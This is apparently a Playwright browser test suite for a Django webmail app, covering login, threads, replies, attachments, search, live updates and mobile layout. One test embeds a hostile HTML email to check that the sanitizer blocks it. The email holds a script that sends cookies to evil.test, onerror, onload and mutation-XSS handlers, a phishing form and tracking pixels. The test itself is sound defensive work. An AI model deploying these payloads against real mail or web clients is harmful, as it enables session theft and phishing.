"""The webmail in Debian's Chromium, driven by Playwright, against a real ASGI server.

uvicorn serves ``config.asgi`` (HTTP and the /ws/mail/ websocket) from a thread of this process
on the transactional test database; mail arrives through the real SMTP receiver. Screenshots
go to tests/artifacts/.
"""

from __future__ import annotations

import os
import smtplib
import threading
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest
from django.db import connections
from django.test import Client
from playwright.sync_api import Browser, BrowserContext, Page, WebSocketRoute, sync_playwright

from mailcore.models import Attachment, Mailbox, Message
from mailcore.services.messages import set_seen
from mailcore.smtp.server import Receiver
from tests.factories import PASSWORD, make_email
from tests.support import CHROMIUM_ARGS, serve_asgi
from tests.webmail.conftest import deliver_raw, folder, html_email, receive
from webmail.models import Preferences

pytestmark = [
    pytest.mark.browser,
    pytest.mark.django_db(transaction=True),
    # WhiteNoise hands static files to Django's ASGI handler as a synchronous iterator.
    pytest.mark.filterwarnings("ignore:StreamingHttpResponse must consume synchronous"),
]

ARTIFACTS = Path(__file__).resolve().parents[1] / "artifacts"
CHROMIUM = "/usr/bin/chromium"
TIMEOUT_MS = 15_000

# Observes notifications instead of showing them, and reports the tab as in the background.
NOTIFICATION_STUB = """
window.__notes = [];
window.Notification = class {
  constructor(title, options) { window.__notes.push({title, body: (options || {}).body}); }
  static get permission() { return "granted"; }
  static requestPermission() { return Promise.resolve("granted"); }
  close() {}
};
document.hasFocus = () => false;
"""


@pytest.fixture(scope="module")
def server() -> Iterator[str]:
    """config.asgi under uvicorn on a free loopback port, in a thread."""
    with serve_asgi() as url:
        yield url


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    ARTIFACTS.mkdir(exist_ok=True)
    # Playwright's sync API marks an event loop as running in this thread, which trips Django's
    # async-safety check on the test's own (synchronous) database calls.
    previous = os.environ.get("DJANGO_ALLOW_ASYNC_UNSAFE")
    os.environ["DJANGO_ALLOW_ASYNC_UNSAFE"] = "true"
    try:
        with sync_playwright() as playwright:
            launched = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
            yield launched
            launched.close()
    finally:
        if previous is None:
            os.environ.pop("DJANGO_ALLOW_ASYNC_UNSAFE", None)
        else:
            os.environ["DJANGO_ALLOW_ASYNC_UNSAFE"] = previous


@pytest.fixture
def context(browser: Browser, server: str) -> Iterator[BrowserContext]:
    context = browser.new_context(base_url=server, viewport={"width": 1280, "height": 860})
    context.set_default_timeout(TIMEOUT_MS)
    yield context
    context.close()


def off_loop(function: Any, *args: Any, **kwargs: Any) -> Any:
    """Run ``function`` in a worker thread: services push with async_to_sync, which cannot run
    in the thread where Playwright's event loop lives."""

    def call() -> Any:
        try:
            return function(*args, **kwargs)
        finally:
            connections.close_all()

    with ThreadPoolExecutor(1) as pool:
        return pool.submit(call).result()


def sign_in_by_cookie(context: BrowserContext, server: str, mailbox: Mailbox) -> None:
    client = Client()
    client.force_login(mailbox.user)
    context.add_cookies(
        [{"name": "sessionid", "value": client.cookies["sessionid"].value, "url": server}]
    )


def quick_undo(mailbox: Mailbox) -> None:
    """Two seconds of undo-send instead of ten keeps the tests short."""
    Preferences.objects.update_or_create(user=mailbox.user, defaults={"undo_send_seconds": 2})


def shot(page: Page, name: str) -> None:
    page.screenshot(path=str(ARTIFACTS / f"{name}.png"), full_page=True)


def wait_until(predicate: Any, timeout: float = 10.0) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if predicate():
            return
        time.sleep(0.05)
    raise AssertionError("condition not met in time")


def test_sign_in_read_a_thread_and_reply(
    context: BrowserContext, server: str, alice: Mailbox, bob: Mailbox
) -> None:
    quick_undo(alice)
    root = off_loop(
        receive,
        alice,
        "Offsite agenda",
        sender="Bob Example <bob@example.test>",
        message_id="<agenda-1@example.test>",
        body="Draft agenda attached.\nThoughts?",
        minutes=0,
    )
    off_loop(set_seen, [root], True)
    off_loop(
        receive,
        alice,
        "Re: Offsite agenda",
        sender="Carol <carol@remote.test>",
        minutes=5,
        message_id="<agenda-2@remote.test>",
        headers={"In-Reply-To": "<agenda-1@example.test>"},
        body="Looks good to me.",
    )
    last = off_loop(
        receive,
        alice,
        "Re: Offsite agenda",
        sender="Bob Example <bob@example.test>",
        minutes=9,
        message_id="<agenda-3@example.test>",
        headers={"In-Reply-To": "<agenda-2@remote.test>"},
        body="Great, see https://example.org/offsite for the venue.",
    )
    page = context.new_page()
    page.goto("/login/")
    shot(page, "01-login")
    page.fill("input[name=username]", "alice@example.test")
    page.fill("input[name=password]", PASSWORD)
    page.click("button[type=submit]")
    page.wait_for_url(f"**/folder/{folder(alice, 'inbox').id}/")
    assert page.locator("tr.row").count() == 3
    assert page.locator("tr.row.unread").count() == 2
    assert page.locator(f'[data-count="{folder(alice, "inbox").id}"]').inner_text() == "2"
    shot(page, "02-inbox")

    page.locator(f'tr.row[data-id="{last.id}"] .subject').click()
    page.wait_for_url(f"**/message/{last.id}/")
    sections = page.locator("section.message")
    assert sections.count() == 3
    assert "collapsed" in (sections.nth(0).get_attribute("class") or "")
    assert "expanded" in (sections.nth(2).get_attribute("class") or "")
    link = sections.nth(2).locator('.text-body a[href="https://example.org/offsite"]')
    assert link.get_attribute("rel") == "noopener noreferrer"
    sections.nth(0).locator(".message-head").click()
    assert "expanded" in (sections.nth(0).get_attribute("class") or "")
    assert "Thoughts?" in sections.nth(0).inner_text()
    shot(page, "03-thread")

    page.keyboard.press("r")  # reply to the newest message
    page.wait_for_url("**/compose/?source=*")
    assert page.input_value("input[name=to]") == "Bob Example <bob@example.test>"
    assert page.input_value("input[name=subject]") == "Re: Offsite agenda"
    body = page.locator("textarea[name=body]")
    assert "> Great, see https://example.org/offsite for the venue." in body.input_value()
    body.press("Control+Home")
    body.type("Booked the venue.")
    shot(page, "04-reply")
    page.click("#send-button")
    page.wait_for_selector("#sending-banner")
    page.wait_for_selector("#sending-banner.success", timeout=TIMEOUT_MS)
    assert page.locator("#sending-banner .sending-text").inner_text() == "Message sent."
    at_bob = Message.objects.get(mailbox=bob)
    assert at_bob.subject == "Re: Offsite agenda"
    assert at_bob.in_reply_to == "agenda-3@example.test"
    assert bytes(at_bob.blob.data).count(b"Booked the venue.") == 1
    last.refresh_from_db()
    assert last.is_answered is True
    sent = Message.objects.get(mailbox=alice, folder__role="sent")
    assert sent.thread_id == last.thread_id


def test_compose_with_attachment_and_shortcuts(
    context: BrowserContext, server: str, alice: Mailbox, bob: Mailbox
) -> None:
    quick_undo(alice)
    sign_in_by_cookie(context, server, alice)
    page = context.new_page()
    page.goto("/")
    page.keyboard.press("?")
    assert page.locator("dialog#shortcuts").is_visible()
    assert "Reply all" in page.locator("dialog#shortcuts").inner_text()
    shot(page, "05-shortcuts")
    page.keyboard.press("Escape")
    page.keyboard.press("c")
    page.wait_for_url("**/compose/")
    page.fill("input[name=to]", "bob@example.test")
    page.fill("input[name=subject]", "Plans with attachment")
    page.locator("textarea[name=body]").press("Control+Home")
    page.locator("textarea[name=body]").type("The plan is attached.")
    payload = b"step 1\nstep 2\n" * 2000
    page.set_input_files(
        "#file-input", files=[{"name": "plan.txt", "mimeType": "text/plain", "buffer": payload}]
    )
    page.wait_for_selector('#attachment-list li[data-token^="u:"]')
    page.wait_for_selector('#attachment-list li[data-token^="a:"]')  # autosaved into the draft
    assert "Draft saved" in page.locator("#autosave-status").inner_text()
    assert Message.objects.get(mailbox=alice, folder__role="drafts").has_attachments is True
    shot(page, "06-compose")
    page.click("#send-button")
    page.wait_for_selector("#sending-banner.success")
    received = Message.objects.get(mailbox=bob)
    attachment = Attachment.objects.get(message=received)
    assert (attachment.filename, attachment.size) == ("plan.txt", len(payload))
    assert Message.objects.filter(mailbox=alice, folder__role="drafts").count() == 0
    shot(page, "07-sent")


def test_search_by_subject_word(context: BrowserContext, server: str, alice: Mailbox) -> None:
    wanted = off_loop(receive, alice, "Invoice for the narwhal project", minutes=1)
    off_loop(receive, alice, "Lunch on Friday", minutes=2)
    sign_in_by_cookie(context, server, alice)
    page = context.new_page()
    page.goto("/")
    page.keyboard.press("/")
    page.keyboard.type("narwhal")
    page.keyboard.press("Enter")
    page.wait_for_url("**/search/?q=narwhal")
    rows = page.locator("tr.row")
    assert rows.count() == 1
    assert rows.first.get_attribute("data-id") == str(wanted.id)
    shot(page, "08-search")


def test_live_arrival_over_smtp_and_catch_up_after_reconnect(
    context: BrowserContext, server: str, alice: Mailbox, receiver: Receiver
) -> None:
    off_loop(receive, alice, "Already here")
    sign_in_by_cookie(context, server, alice)
    context.add_init_script(NOTIFICATION_STUB)
    page = context.new_page()
    blocked = threading.Event()
    routes: list[WebSocketRoute] = []

    def route(ws: WebSocketRoute) -> None:
        if blocked.is_set():
            ws.close(code=1011)
            return
        ws.connect_to_server()
        routes.append(ws)

    page.route_web_socket("**/ws/mail/", route)
    page.goto("/")
    page.wait_for_selector("#live-status[data-state=open]")
    inbox_count = page.locator(f'[data-count="{folder(alice, "inbox").id}"]')
    assert inbox_count.inner_text() == "1"

    def send(subject: str) -> None:
        with smtplib.SMTP("127.0.0.1", receiver.port, timeout=10) as smtp:
            smtp.sendmail(
                "erin@remote.test",
                ["alice@example.test"],
                make_email(sender="Erin <erin@remote.test>", subject=subject),
            )

    send("Fresh off the wire")
    page.wait_for_selector("tr.row.fresh >> text=Fresh off the wire")
    assert page.locator("tr.row").count() == 2
    wait_until(lambda: inbox_count.inner_text() == "2")
    assert inbox_count.inner_text() == "2"
    assert page.evaluate("window.__notes") == [{"title": "Erin", "body": "Fresh off the wire"}]
    assert page.title().startswith("(2) Inbox")
    shot(page, "09-live")

    # The connection drops and stays down while mail arrives; on reconnect the page catches up.
    blocked.set()
    routes[-1].close(code=1006)
    page.wait_for_selector("#live-status[data-state=retrying]")
    send("Sent while offline")
    time.sleep(0.3)
    assert page.locator("tr.row").count() == 2
    blocked.clear()
    page.wait_for_selector("#live-status[data-state=open]", timeout=TIMEOUT_MS)
    page.wait_for_selector("tr.row >> text=Sent while offline")
    wait_until(lambda: inbox_count.inner_text() == "3")


def test_hostile_html_runs_no_script_and_fetches_nothing_off_origin(
    context: BrowserContext, server: str, alice: Mailbox
) -> None:
    hostile = """
<h1>Quarterly report</h1>
<p>Numbers below. <img src="cid:chart@report"> <a href="https://example.org/">details</a></p>
<script>window.top.__pwned = 1; fetch('http://evil.test/steal?c=' + document.cookie)</script>
<img src="http://evil.test/pixel.gif" onerror="window.top.__pwned=2">
<img src="https://evil.test/tracker.png" srcset="https://evil.test/2x.png 2x">
<div style="background-image:url('http://evil.test/bg.png')">styled</div>
<div style="width:expression(alert(1))">old IE</div>
<style>@import url(http://evil.test/x.css); body{background:url(http://evil.test/b.png)}</style>
<link rel="stylesheet" href="http://evil.test/style.css">
<iframe src="http://evil.test/frame"></iframe>
<object data="http://evil.test/obj.swf"></object><embed src="http://evil.test/e.swf">
<svg onload="window.top.__pwned=3"><image href="http://evil.test/svg.png"/></svg>
<math><mtext><table><mglyph><style><img src=x onerror="window.top.__pwned=4">
</style></mglyph></table></mtext></math>
<form action="http://evil.test/phish">
<input name="password" autofocus onfocus="window.top.__pwned=5"></form>
<meta http-equiv="refresh" content="0;url=http://evil.test/refresh">
<base href="http://evil.test/">
<a href="javascript:window.top.__pwned=6">click me</a>
<video poster="http://evil.test/poster.png"></video><audio src="http://evil.test/a.mp3"></audio>
"""
    message = off_loop(
        deliver_raw,
        html_email(
            to=alice.address,
            subject="Quarterly report",
            html=hostile,
            inline_png_cid="chart@report",
        ),
        alice,
    )
    sign_in_by_cookie(context, server, alice)
    requests: list[str] = []
    responses: dict[str, int] = {}
    context.on("request", lambda request: requests.append(request.url))
    context.on("response", lambda response: responses.__setitem__(response.url, response.status))
    page = context.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.goto(f"/message/{message.id}/")
    frame_element = page.wait_for_selector("iframe.html-body")
    assert frame_element.get_attribute("sandbox") == "allow-popups allow-popups-to-escape-sandbox"
    frame = frame_element.content_frame()
    assert frame is not None
    frame.wait_for_load_state("load")
    wait_until(lambda: any("/part/" in url for url in responses))
    time.sleep(0.5)  # give any stray request time to show up
    shot(page, "10-hostile")

    origin = server + "/"
    off_origin = [url for url in requests if not url.startswith(origin)]
    assert off_origin == []
    part = [url for url in responses if "/part/" in url]
    assert [responses[url] for url in part] == [200]  # the cid: image came from the message
    assert page.evaluate("window.__pwned") is None
    assert dialogs == []
    assert (
        frame.locator(
            "script, iframe, object, embed, form, svg, math, base, meta[http-equiv]"
        ).count()
        == 0
    )
    assert frame.locator("h1").inner_text() == "Quarterly report"
    assert page.locator(".images-banner").is_visible()
    page.locator(f'section[data-id="{message.id}"] .message-head').click()  # collapse
    page.locator(f'section[data-id="{message.id}"] .message-head').click()  # expand again
    page.keyboard.press("Shift+U")  # mark unread from the conversation
    page.wait_for_url(f"**/folder/{message.folder_id}/")
    message.refresh_from_db()
    assert message.is_seen is False
    assert [url for url in requests if not url.startswith(origin)] == []


@pytest.fixture
def mobile_context(browser: Browser, server: str) -> Iterator[BrowserContext]:
    context = browser.new_context(
        base_url=server, viewport={"width": 375, "height": 760}, is_mobile=True, has_touch=True
    )
    context.set_default_timeout(TIMEOUT_MS)
    yield context
    context.close()


def test_mobile_layout_at_375px(
    mobile_context: BrowserContext, server: str, alice: Mailbox
) -> None:
    context = mobile_context
    for i in range(6):
        off_loop(
            receive, alice, f"A fairly long subject line number {i} that needs wrapping", minutes=i
        )
    thread_message = off_loop(
        receive, alice, "Mobile thread", body="Short body\nwith two lines.", minutes=9
    )
    sign_in_by_cookie(context, server, alice)
    page = context.new_page()
    page.goto("/")
    assert page.evaluate("document.documentElement.scrollWidth") <= 375
    assert not page.locator(".sidebar").is_visible()  # the folder drawer is closed
    shot(page, "11-mobile-inbox")
    page.click(".menu-toggle")
    wait_until(lambda: (page.locator(".sidebar").bounding_box() or {"x": -1})["x"] >= 0)
    shot(page, "12-mobile-drawer")
    page.click(".scrim", position={"x": 350, "y": 300})  # the part the drawer does not cover
    wait_until(lambda: not page.locator(".sidebar").is_visible())
    page.goto(f"/message/{thread_message.id}/")
    assert page.evaluate("document.documentElement.scrollWidth") <= 375
    shot(page, "13-mobile-thread")
    page.goto("/compose/")
    assert page.evaluate("document.documentElement.scrollWidth") <= 375
    shot(page, "14-mobile-compose")


def test_list_actions_undo_labels_and_a_second_tab(
    context: BrowserContext, server: str, alice: Mailbox
) -> None:
    first = off_loop(receive, alice, "Boarding pass", minutes=1)
    second = off_loop(receive, alice, "Hotel booking", minutes=2)
    sign_in_by_cookie(context, server, alice)
    page = context.new_page()
    page.goto("/settings/")
    page.fill('input[name=name][placeholder="New label"]', "Travel")
    page.click("text=Create")
    page.wait_for_selector(".alert.success >> text=Label Travel created.")
    shot(page, "15-settings")

    page.goto("/")
    other_tab = context.new_page()
    other_tab.goto("/")
    for tab in (page, other_tab):
        tab.wait_for_selector("#live-status[data-state=open]")

    # Label both from the toolbar; the chips are painted with the label's color.
    page.locator("input.select-all").check()
    page.locator('button[value="label"]').click()
    page.wait_for_selector(f'tr.row[data-id="{first.id}"] .chip >> text=Travel')
    assert page.locator(".chip").count() == 2
    assert sorted(first.labels.values_list("name", flat=True)) == ["Travel"]

    # A star set here shows up in the other tab without a reload.
    page.locator(f'tr.row[data-id="{first.id}"] .star-button').click()
    other_tab.wait_for_selector(f'tr.row.flagged[data-id="{first.id}"]')
    assert other_tab.locator(f'tr.row[data-id="{first.id}"] .star-button').inner_text() == "★"

    # Archive with the keyboard, then undo from the toast.
    page.keyboard.press("j")
    page.keyboard.press("j")
    page.keyboard.press("e")
    page.wait_for_selector("#toast >> text=Archived: 1 message.")
    assert page.locator("tr.row").count() == 1
    other_tab.wait_for_selector(f'tr.row[data-id="{first.id}"]', state="detached")
    shot(page, "16-undo-toast")
    page.locator("#toast .toast-undo").click()
    page.wait_for_selector(f'tr.row[data-id="{first.id}"]')
    other_tab.wait_for_selector(f'tr.row[data-id="{first.id}"]')
    first.refresh_from_db()
    assert first.folder.role == "inbox"
    assert page.locator("tr.row").count() == 2
    assert second.id in [
        int(i) for i in page.locator("tr.row").evaluate_all("rows => rows.map(r => r.dataset.id)")
    ]
